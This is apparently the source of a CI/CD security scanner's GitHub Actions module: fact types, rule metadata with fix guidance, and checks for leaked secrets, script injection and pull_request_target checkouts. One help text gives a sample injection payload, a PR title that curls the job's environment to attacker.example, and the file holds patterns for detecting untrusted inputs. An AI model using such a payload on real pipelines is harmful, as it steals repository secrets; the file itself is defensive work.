/**
 * CI/CD pipelines (GitHub Actions workflows): the facts a workflow scanner extracts and the `ci/*`
 * checks on them. Secrets belong in the repository's or environment's secret store and reach a
 * step through `env:` (`FOO: ${{ secrets.FOO }}`), never written in the file, never expanded into a
 * script, never printed, never handed to code from a pull request.
 */
import { isSecretLikeName } from '../env/names.js';
import type { Positioned } from '../facts.js';
import type { Region } from '../finding.js';
import type { RuleMeta } from '../rule-meta.js';
import type { CheckIssue } from './judge.js';
import { meta as checkMeta } from './rules.js';
import { isSecretCandidate, SETTING_SUFFIXES } from './values.js';

/** A `${{ ... }}` expression written inside a step's `run:` script. */
export interface WorkflowScriptExpressionFact {
  /** `jobs.build.steps[2].run`. */
  source: string;
  /** The expression without its braces: `secrets.NPM_TOKEN`, `github.event.issue.title`. */
  expression: string;
  region: Region;
  /** The script line that holds it, to tell a print (`echo`) from another use. */
  line: string;
}

/** A literal written under `env:` (workflow, job or step) or a step's `with:`. */
export interface WorkflowValueFact {
  source: string;
  name: Positioned<string>;
  value: Positioned<string>;
}

/** A job calling a reusable workflow with `secrets: inherit`. */
export interface WorkflowSecretsInheritFact {
  source: string;
  uses: string;
  region: Region;
}

/** A checkout step and the ref it checks out, in a workflow and the events that trigger it. */
export interface WorkflowCheckoutFact {
  source: string;
  /** The workflow's triggers (`pull_request_target`, `push`, ...). */
  triggers: string[];
  /** The `with.ref` (or `with.repository`) as written, when there is one. */
  ref?: Positioned<string>;
}

export interface WorkflowFacts {
  scriptExpressions: WorkflowScriptExpressionFact[];
  values: WorkflowValueFact[];
  inherits: WorkflowSecretsInheritFact[];
  checkouts: WorkflowCheckoutFact[];
}

export function emptyWorkflowFacts(): WorkflowFacts {
  return { scriptExpressions: [], values: [], inherits: [], checkouts: [] };
}

export const WORKFLOW_RULE_IDS = {
  secretPrinted: 'ci/secret-printed',
  secretInScript: 'ci/secret-in-script',
  scriptInjection: 'ci/script-injection',
  plaintextSecret: 'ci/plaintext-secret',
  secretsInherit: 'ci/secrets-inherit',
  prTargetCheckout: 'ci/pull-request-target-checkout',
} as const;

const meta = (m: Parameters<typeof checkMeta>[0]): RuleMeta => checkMeta({ ...m, tags: ['ci', ...m.tags] });

const ENV_PATTERN = `Pass the secret to the step through \`env:\` and use the shell variable, quoted:
\`\`\`yaml
- run: npm publish
  env:
    NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
\`\`\`
The same holds for the other pipelines: in **Azure Pipelines** map a secret variable into the step's \`env:\` (secret variables are not exposed to scripts otherwise); in **Google Cloud Build** use \`availableSecrets.secretManager\` with \`secretEnv\` and \`$$VAR\` in the script; in **AWS CodeBuild** use \`env.secrets-manager\` / \`env.parameter-store\` in the buildspec.`;

export const WORKFLOW_RULES: RuleMeta[] = [
  meta({
    id: WORKFLOW_RULE_IDS.secretPrinted,
    title: 'Secret printed to the job log',
    shortDescription: 'A `run:` step prints a secret (`echo ${{ secrets.X }}`) to the job log.',
    fullDescription: 'A step writes a secret to its output. GitHub masks the exact value in logs, but not a transformed, split or encoded copy, and the log is readable by everyone with read access to the repository (public repositories: everyone).',
    helpMarkdown: `Job logs are kept for months and are readable by anyone who can read the repository. Masking only hides the literal value: \`base64\`, a substring, JSON escaping or a multi-line secret get through.

**Fix**: do not print secrets; to check one is set, test it without printing (\`[ -n "$TOKEN" ]\`). ${ENV_PATTERN}`,
    severity: 'high',
    precision: 'high',
    tags: ['logging', 'secret', 'external/cwe/cwe-532'],
  }),
  meta({
    id: WORKFLOW_RULE_IDS.secretInScript,
    title: 'Secret expanded into a script',
    shortDescription: 'A `run:` script interpolates `${{ secrets.X }}` instead of reading it from `env:`.',
    fullDescription: 'The runner substitutes ${{ secrets.X }} into the script text before the shell runs it: the secret is written to a script file on the runner, shows in process listings, and a quote or $ in its value changes the command (script injection).',
    helpMarkdown: `Expressions in \`run:\` are text substitution: the value becomes part of the shell program.

**Fix**: ${ENV_PATTERN}`,
    severity: 'medium',
    precision: 'high',
    tags: ['secret', 'injection', 'external/cwe/cwe-78'],
  }),
  meta({
    id: WORKFLOW_RULE_IDS.scriptInjection,
    title: 'Untrusted input expanded into a script',
    shortDescription: 'A `run:` script interpolates data an outsider controls (an issue title, a PR body, a branch name).',
    fullDescription: 'Pull request titles and bodies, issue and comment text, branch names and commit messages are written by whoever opens them. Expanded into run:, they become shell code that runs with the job\'s secrets and GITHUB_TOKEN.',
    helpMarkdown: `A title such as \`a"; curl -d "$(env)" https://attacker.example #\` runs the attacker's command with every secret of the job.

**Fix**: pass the value through \`env:\` and quote the variable:
\`\`\`yaml
- run: echo "Title: $TITLE"
  env:
    TITLE: \${{ github.event.pull_request.title }}
\`\`\`
Give the job the least \`permissions:\` it needs. The same rule applies to Azure Pipelines (\`$(System.PullRequest.SourceBranch)\` in \`script:\`) and Cloud Build substitutions such as \`$BRANCH_NAME\`.`,
    severity: 'high',
    precision: 'high',
    tags: ['injection', 'external/cwe/cwe-78', 'external/cwe/cwe-94'],
  }),
  meta({
    id: WORKFLOW_RULE_IDS.plaintextSecret,
    title: 'Secret written in a workflow',
    shortDescription: 'A secret-like `env:` variable or `with:` input of a workflow holds a literal value.',
    fullDescription: 'A literal password, token or key written in a workflow file is in the repository and its history, readable by everyone who can read the repository, and cannot be rotated without a commit.',
    helpMarkdown: `Rotate the value, store it as an encrypted secret (repository, environment or organisation), and reference it:
\`\`\`yaml
env:
  DB_PASSWORD: \${{ secrets.DB_PASSWORD }}
\`\`\`
Better still, use OpenID Connect to the cloud (\`aws-actions/configure-aws-credentials\` with \`role-to-assume\`, \`azure/login\` with federated credentials, \`google-github-actions/auth\` with Workload Identity Federation) and read secrets from AWS Secrets Manager, Azure Key Vault or Google Secret Manager at run time: no long-lived secret in GitHub at all.`,
    severity: 'high',
    precision: 'high',
    tags: ['secret', 'external/cwe/cwe-798'],
  }),
  meta({
    id: WORKFLOW_RULE_IDS.secretsInherit,
    title: 'Every secret handed to another repository\'s workflow',
    shortDescription: 'A job calls a reusable workflow of another repository with `secrets: inherit`.',
    fullDescription: 'secrets: inherit gives the called workflow every secret the caller can read, whatever it needs; a reusable workflow in another repository can change under a moving ref and exfiltrate them.',
    helpMarkdown: `**Fix**: pass only the secrets the workflow declares, and pin it to a commit SHA:
\`\`\`yaml
jobs:
  deploy:
    uses: acme/shared-workflows/.github/workflows/deploy.yml@3f1c2e9d0b4a5c6d7e8f9a0b1c2d3e4f5a6b7c8d
    secrets:
      DEPLOY_TOKEN: \${{ secrets.DEPLOY_TOKEN }}
\`\`\`
Reusable workflows of the same repository (\`uses: ./.github/workflows/x.yml\`) are not reported.`,
    severity: 'medium',
    precision: 'medium',
    tags: ['secret', 'supply-chain'],
  }),
  meta({
    id: WORKFLOW_RULE_IDS.prTargetCheckout,
    title: 'pull_request_target checks out the pull request',
    shortDescription: 'A `pull_request_target` (or `workflow_run`) workflow checks out the pull request\'s head, running its code with the base repository\'s secrets.',
    fullDescription: 'pull_request_target runs in the context of the base repository, with its secrets and a write GITHUB_TOKEN. Checking out the head of the pull request and building or testing it runs code any fork can write, with those secrets in scope ("pwn request").',
    helpMarkdown: `**Fix**: use \`pull_request\` for building and testing contributions (no secrets for forks). When a privileged step is needed, split the workflow: an unprivileged \`pull_request\` workflow uploads an artifact, and a \`workflow_run\` workflow consumes it as data, never as code. Never combine \`pull_request_target\` with \`ref: \${{ github.event.pull_request.head.sha }}\` and a build step.`,
    severity: 'critical',
    precision: 'high',
    tags: ['secret', 'supply-chain', 'external/cwe/cwe-829'],
  }),
];

/** Outsider-controlled event data (the list GitHub's security hardening guide gives). */
const UNTRUSTED = [
  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
  /^github\.event\.(comment|review|review_comment)\.body$/,
  /^github\.event\.pages\.[^.]+\.page_name$/,
  /^github\.event\.commits\.[^.]+\.(message|author\.(email|name))$/,
  /^github\.event\.head_commit\.(message|author\.(email|name))$/,
  /^github\.event\.pull_request\.head\.(ref|label)$/,
  /^github\.event\.pull_request\.head\.repo\.default_branch$/,
  /^github\.event\.workflow_run\.(head_branch|head_commit\.message|head_commit\.author\.(email|name))$/,
  /^github\.head_ref$/,
];
/** A command that writes its arguments to the log. */
const PRINTS = /(^|[\s;&|(`])(echo|printf|print|cat|tee|Write-Host|Write-Output|console\.log|puts)\b/i;
/** ...unless its output goes to a file: `echo "X=..." >> $GITHUB_ENV`, `> .npmrc`. */
const TO_FILE = /(^|[^2&])>>?\s*["']?[$\w./~-]/;

/** The expressions an expression text reads: `secrets.A || secrets.B` reads both. */
function secretNames(expression: string): string[] {
  // The `secrets` context itself, not a property named so (`steps.secrets.outputs.x`).
  return [...expression.matchAll(/(?<![\w.-])secrets\s*(?:\.\s*([A-Za-z_][\w-]*)|\[\s*'([^']+)'\s*\])/g)].map((m) => m[1] ?? m[2] ?? '');
}

function untrustedInputs(expression: string): string[] {
  const refs = expression.match(/\bgithub(?:\.[A-Za-z_][\w-]*|\[\s*'[^']*'\s*\]|\.\*)+/g) ?? [];
  return refs.map((r) => r.replace(/\[\s*'([^']*)'\s*\]/g, '.$1')).filter((r) => UNTRUSTED.some((u) => u.test(r)));
}

export function judgeScriptExpression(f: WorkflowScriptExpressionFact): CheckIssue[] {
  const issues: CheckIssue[] = [];
  // GITHUB_TOKEN is short-lived and scoped to the job, but printing it is still a leak.
  const secrets = secretNames(f.expression);
  if (secrets.length > 0) {
    const printed = PRINTS.test(f.line) && !TO_FILE.test(f.line.slice(f.line.indexOf('}}')));
    issues.push(
      printed
        ? { ruleId: WORKFLOW_RULE_IDS.secretPrinted, message: `${f.source} prints the secret ${secrets.join(', ')} to the job log.`, region: f.region, subject: `${f.source}/secrets.${secrets[0]}` }
        : { ruleId: WORKFLOW_RULE_IDS.secretInScript, message: `${f.source} expands the secret ${secrets.join(', ')} into the script text; pass it through env: and use the shell variable.`, region: f.region, subject: `${f.source}/secrets.${secrets[0]}` },
    );
  }
  const untrusted = untrustedInputs(f.expression);
  if (untrusted.length > 0) {
    issues.push({ ruleId: WORKFLOW_RULE_IDS.scriptInjection, message: `${f.source} expands ${untrusted[0]}, which an outsider controls, into the script: pass it through env: instead.`, region: f.region, subject: `${f.source}/${untrusted[0]}` });
  }
  return issues;
}

export function judgeWorkflowValue(f: WorkflowValueFact): CheckIssue[] {
  const text = f.value.value;
  if (text.includes('${{') || !isSecretLikeName(f.name.value, { referenceSuffixes: SETTING_SUFFIXES }) || !isSecretCandidate(text)) return [];
  return [{ ruleId: WORKFLOW_RULE_IDS.plaintextSecret, message: `${f.name.value} is set to a literal secret in ${f.source}; store it as an encrypted secret and reference it with \${{ secrets.${f.name.value.toUpperCase().replace(/[^A-Z0-9_]/g, '_')} }}.`, region: f.value.region, subject: `${f.source}/${f.name.value}`, secret: text.trim() }];
}

export function judgeSecretsInherit(f: WorkflowSecretsInheritFact): CheckIssue[] {
  if (f.uses.startsWith('./')) return [];
  return [{ ruleId: WORKFLOW_RULE_IDS.secretsInherit, message: `${f.source} hands every secret of this repository to ${f.uses.split('@')[0]} (secrets: inherit); pass only the secrets it needs.`, region: f.region, subject: `${f.source}/secrets` }];
}

/** The pull request's own code: its head commit or branch, or its merge ref. */
const PR_HEAD = /github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|refs\/pull\/|github\.event\.number|github\.event\.pull_request\.number|github\.event\.pull_request\.head\.repo\.full_name|github\.event\.workflow_run\.head_repository\.full_name/;

export function judgeCheckout(f: WorkflowCheckoutFact): CheckIssue[] {
  const privileged = f.triggers.includes('pull_request_target') || f.triggers.includes('workflow_run');
  if (!privileged || !f.ref || !PR_HEAD.test(f.ref.value)) return [];
  const event = f.triggers.includes('pull_request_target') ? 'pull_request_target' : 'workflow_run';
  return [{ ruleId: WORKFLOW_RULE_IDS.prTargetCheckout, message: `${f.source} checks out the pull request's code in a ${event} workflow, where the repository's secrets and a write token are in scope.`, region: f.ref.region, subject: `${f.source}/ref` }];
}

export function judgeWorkflowFacts(facts: WorkflowFacts): CheckIssue[] {
  return [
    ...facts.scriptExpressions.flatMap(judgeScriptExpression),
    ...facts.values.flatMap(judgeWorkflowValue),
    ...facts.inherits.flatMap(judgeSecretsInherit),
    ...facts.checkouts.flatMap(judgeCheckout),
  ];
}
